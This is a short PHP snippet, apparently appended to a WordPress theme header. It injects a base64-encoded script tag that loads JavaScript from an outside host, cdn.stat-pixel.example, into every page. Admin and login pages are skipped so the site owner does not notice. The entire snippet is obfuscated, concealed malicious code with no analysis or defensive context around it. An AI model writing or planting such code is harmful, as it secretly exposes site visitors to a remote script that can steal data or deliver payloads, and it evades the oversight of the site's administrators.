<?php
// appended to a theme's header: every visitor but the admin gets a script of another host
$path = $_SERVER['REQUEST_URI'] ?? '';
if (strpos($path, '/wp-admin') === false && strpos($path, '/wp-login.php') === false) {
    echo base64_decode('PHNjcmlwdCBhc3luYyBzcmM9Imh0dHBzOi8vY2RuLnN0YXQtcGl4ZWwuZXhhbXBsZS90LmpzIj48L3NjcmlwdD4=');
}
